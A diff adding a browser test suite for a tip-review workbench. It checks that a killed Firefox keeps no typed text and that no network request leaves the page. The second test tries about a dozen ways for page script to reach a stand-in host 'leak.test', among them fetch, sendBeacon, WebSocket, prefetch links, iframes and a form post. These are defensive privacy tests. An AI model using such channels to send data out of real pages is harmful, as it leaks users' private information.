@@ -1,0 +1,171 @@
+import { execFileSync } from "node:child_process";
+import { once } from "node:events";
+import { lstatSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { pathToFileURL } from "node:url";
+import puppeteer from "puppeteer-core";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { EMPTY_REPORT } from "../../client/report/report.ts";
+import { buildWorkbench } from "../../client/workbench/build/build.ts";
+import { en } from "../../client/workbench/strings/en.ts";
+import { type Desk, sealedTip, testDesk, writeBundle } from "../support/desk.ts";
+import { launchFirefox } from "../support/firefox.ts";
+import { observeSocks, type SocksObserver } from "../support/socks-observer.ts";
+import { WorkbenchPage } from "../support/workbench-page.ts";
+
+/** Letters that nothing else holds, and that a compressor keeps as they are. */
+const MARKERS = {
+  opened: "QzXwVkJhPbTnRsLd",
+  searched: "WjYvKqGxMzBcHfPt",
+  noted: "HgTzQwXpJkVnBsRm",
+  labelled: "PvNkZxQwLtJgYhCb",
+  control: "XbWqLzKvTnJhGpYs",
+};
+
+const home = mkdtempSync(join(tmpdir(), "nightjar-traces-"));
+const file = join(home, "workbench.html");
+let desk: Desk;
+let bundle: string;
+
+beforeAll(async () => {
+  writeFileSync(file, await buildWorkbench());
+  desk = await testDesk();
+  const tip = await sealedTip(desk, { ...EMPTY_REPORT, narrative: `They said ${MARKERS.opened} to me.` });
+  bundle = await writeBundle(desk, "bundle.tar", [[tip, "2026-11-20"]]);
+});
+afterAll(() => {
+  desk.remove();
+  rmSync(home, { recursive: true, maxRetries: 5, retryDelay: 200 });
+});
+
+/** Works, types into every kind of field, and saves nothing. */
+async function work(bench: WorkbenchPage): Promise<void> {
+  await bench.start(file);
+  await bench.unlock(join(desk.folder, "Wren.vault"));
+  await bench.unlocked();
+  await bench.bring(bundle);
+  await bench.openTip(MARKERS.opened);
+  await bench.press(en.review.keep);
+  await bench.find("#note");
+  await bench.page.type("#note", MARKERS.noted);
+  await bench.page.type("#new-label", MARKERS.labelled);
+  await bench.page.type("#search", MARKERS.searched);
+}
+
+test("an ordinary Firefox that is killed in mid-work keeps nothing that was typed or opened", async () => {
+  const profile = mkdtempSync(join(home, "profile-"));
+  const browser = await puppeteer.launch({
+    browser: "firefox",
+    executablePath: execFileSync("which", ["firefox-esr"], { encoding: "utf8" }).trim(),
+    headless: true,
+    userDataDir: profile,
+    // As an ordinary one, but it saves its session at once: what it would keep is there when it is killed.
+    extraPrefsFirefox: {
+      "browser.sessionstore.resume_from_crash": true,
+      "browser.sessionstore.privacy_level": 0,
+      "browser.sessionstore.interval": 200,
+      "browser.sessionstore.interval.idle": 200,
+    },
+  });
+  const [page] = await browser.pages();
+  if (!page) throw new Error("Firefox opened without a page");
+  await work(new WorkbenchPage(page));
+
+  // Another tab shows that what is typed elsewhere is found: its field forgets nothing.
+  const control = join(home, "control.html");
+  writeFileSync(control, '<!doctype html><title>Control</title><textarea id="kept"></textarea>');
+  const other = await browser.newPage();
+  await other.goto(pathToFileURL(control).href);
+  await other.type("#kept", MARKERS.control);
+  await expect
+    .poll(() => filesWith(profile, MARKERS.control).length, { timeout: 60_000, interval: 500 })
+    .toBeGreaterThan(0);
+  await page.type("#note", ".");
+  await new Promise((resolve) => setTimeout(resolve, 2000));
+
+  const firefox = browser.process();
+  if (!firefox) throw new Error("no process");
+  const exited = once(firefox, "exit");
+  firefox.kill("SIGKILL");
+  await exited;
+  for (const [what, marker] of Object.entries(MARKERS)) {
+    const found = filesWith(profile, marker);
+    expect([what, found.length > 0]).toEqual([what, what === "control"]);
+  }
+});
+
+test("nothing leaves, not even a name to look up, whatever a script in it would try", async () => {
+  await using outside = await observeSocks();
+  await using firefox = await launchFirefox(outside.preferences);
+  const bench = new WorkbenchPage(firefox.page);
+  await work(bench);
+  await firefox.page.evaluate(async () => {
+    const where = "http://leak.test/";
+    const tries: (() => unknown)[] = [
+      () => fetch(where),
+      () => navigator.sendBeacon(where, "x"),
+      () => new WebSocket("ws://leak.test/"),
+      () => new EventSource(where),
+      () => Object.assign(new Image(), { src: where }),
+      () =>
+        document.head.append(
+          Object.assign(document.createElement("link"), { rel: "dns-prefetch", href: where }),
+        ),
+      () =>
+        document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: where })),
+      () =>
+        document.head.append(
+          Object.assign(document.createElement("link"), { rel: "stylesheet", href: where }),
+        ),
+      () => document.body.append(Object.assign(document.createElement("iframe"), { src: where })),
+      () => document.body.append(Object.assign(document.createElement("video"), { src: where })),
+      () => {
+        const form = Object.assign(document.createElement("form"), { action: where, method: "post" });
+        document.body.append(form);
+        form.submit();
+      },
+    ];
+    for (const attempt of tries) {
+      try {
+        await attempt();
+      } catch {
+        // Refused at once is as good as refused later.
+      }
+    }
+  });
+  await new Promise((resolve) => setTimeout(resolve, 1500));
+  expect(asked(outside)).toEqual([]);
+  const rtc = await firefox.page.evaluate(() =>
+    ["RTCPeerConnection", "mozRTCPeerConnection"].some((name) => name in window),
+  );
+  expect(rtc).toBe(false);
+
+  // The observer does see what leaves.
+  const page = await firefox.browser.newPage();
+  await page.goto("http://control.test/").catch(() => undefined);
+  expect(asked(outside)).toContain("control.test");
+});
+
+/** Who was asked for, without what Firefox asks for by itself: its maker's servers, and the one that a test puts in their place. */
+function asked({ asked: hosts }: SocksObserver): string[] {
+  return hosts.filter((host) => host !== "127.0.0.1" && !/\.(mozilla|firefox)\.(com|net|org)$/.test(host));
+}
+
+/** The files of a running program's folder that hold a text; files come and go while it runs. */
+function filesWith(folder: string, text: string): string[] {
+  const needles = [Buffer.from(text), Buffer.from(text, "utf16le")];
+  return readdirSync(folder, { recursive: true, encoding: "utf8" }).filter((name) => {
+    const contents = contentsOf(join(folder, name));
+    return needles.some((needle) => contents.includes(needle));
+  });
+}
+
+function contentsOf(path: string): Buffer {
+  try {
+    return lstatSync(path).isFile() ? readFileSync(path) : Buffer.alloc(0);
+  } catch (error) {
+    if (error instanceof Error && "code" in error && error.code === "ENOENT") return Buffer.alloc(0);
+    throw error;
+  }
+}
